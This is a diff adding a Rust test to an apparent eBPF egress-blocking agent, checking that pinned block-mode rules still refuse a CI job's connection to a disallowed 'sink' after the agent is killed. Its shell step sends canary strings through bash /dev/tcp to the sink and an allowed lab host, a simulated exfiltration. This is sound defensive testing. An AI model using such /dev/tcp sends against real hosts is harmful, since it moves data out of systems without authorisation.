@@ -473,3 +473,117 @@ fn ping_sockets_name_their_destination_and_are_refused_in_block_mode() {
     drop(agent);
     drop(lab);
 }
+
+/// A bpffs directory for one agent's pins, removed with everything in it (its pinned links
+/// too: their programs detach) when the test ends, however it ends.
+struct Pins(PathBuf);
+
+impl Pins {
+    fn new(name: &str) -> Self {
+        Pins(format!("/sys/fs/bpf/monitor-test-{name}-{}", std::process::id()).into())
+    }
+}
+
+fn remove_tree(dir: &Path) {
+    if let Ok(entries) = std::fs::read_dir(dir) {
+        for e in entries.flatten() {
+            if e.path().is_dir() {
+                remove_tree(&e.path());
+            } else {
+                let _ = std::fs::remove_file(e.path());
+            }
+        }
+    }
+    let _ = std::fs::remove_dir(dir);
+}
+
+impl Drop for Pins {
+    fn drop(&mut self) {
+        remove_tree(&self.0);
+    }
+}
+
+/// Block mode outlives the agent: killed mid-job (as a step with root could kill it), the agent
+/// leaves its links and the maps their verdicts come from pinned, so the kernel still refuses
+/// the job's connection to a destination its profile does not allow (from a process forked
+/// after the agent died) and still lets the allowed one through.
+#[test]
+fn egress_block_outlives_a_killed_agent() {
+    let _serial = one_at_a_time();
+    let pins = Pins::new("egress-outlive");
+    let profile = tempfile::NamedTempFile::new().unwrap();
+    std::fs::write(profile.path(), format!("{PROFILE}  mode: block\n")).unwrap();
+    let mut agent = Agent::start_with(&[
+        "--profile",
+        profile.path().to_str().unwrap(),
+        "--pin-dir",
+        pins.0.to_str().unwrap(),
+    ]);
+    assert!(
+        agent.log().contains("enforcement outlives the agent"),
+        "{}",
+        agent.log()
+    );
+    let lab = Lab::start();
+    let gates = tempfile::tempdir().unwrap();
+    let g = gates.path().display().to_string();
+    // Each destination from a subshell of its own (a process forked at that moment).
+    let attempt = |tag: &str| {
+        format!(
+            "for to in {SINK} {ALLOWED}; do \
+             if (echo CANARY-{tag}-$to > /dev/tcp/$to/8080) 2>/dev/null; \
+             then echo SENT-{tag}-$to; else echo REFUSED-{tag}-$to; fi; done\n"
+        )
+    };
+    let steps: Vec<(String, String)> = vec![
+        ("alive".into(), attempt("alive")),
+        (
+            "dead".into(),
+            format!(
+                "touch {g}/waiting\nwhile [ ! -e {g}/go ]; do sleep 0.05; done\n{}",
+                attempt("dead")
+            ),
+        ),
+    ];
+    let runner = FakeRunner::outside_tmp();
+    let ns = lab.ns.clone();
+    let socket = agent.control_socket.clone();
+    let job = std::thread::spawn(move || {
+        let pairs: Vec<(&str, &str)> = steps
+            .iter()
+            .map(|(a, b)| (a.as_str(), b.as_str()))
+            .collect();
+        // The job's end hook finds no agent: the job's success is not the question here.
+        runner.try_run_job_in(Some(&ns), &pairs, Some(&socket)).1
+    });
+    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(60);
+    while !gates.path().join("waiting").exists() {
+        assert!(
+            std::time::Instant::now() < deadline,
+            "the step never waited"
+        );
+        std::thread::sleep(std::time::Duration::from_millis(50));
+    }
+    unsafe { libc::kill(agent.pid() as i32, libc::SIGKILL) };
+    agent.wait_for_exit();
+    std::fs::write(gates.path().join("go"), "").unwrap();
+    let output = job.join().unwrap();
+    // With the agent alive, and with it dead: the same verdicts.
+    for tag in ["alive", "dead"] {
+        assert!(
+            output.contains(&format!("REFUSED-{tag}-{SINK}")),
+            "{tag}: {output}"
+        );
+        assert!(
+            output.contains(&format!("SENT-{tag}-{ALLOWED}")),
+            "{tag}: {output}"
+        );
+    }
+    let received = lab.received();
+    assert!(
+        received.contains(&format!("CANARY-dead-{ALLOWED}")),
+        "{received:?}"
+    );
+    assert!(!received.contains(&format!("-{SINK}")), "{received:?}");
+    drop(lab);
+}
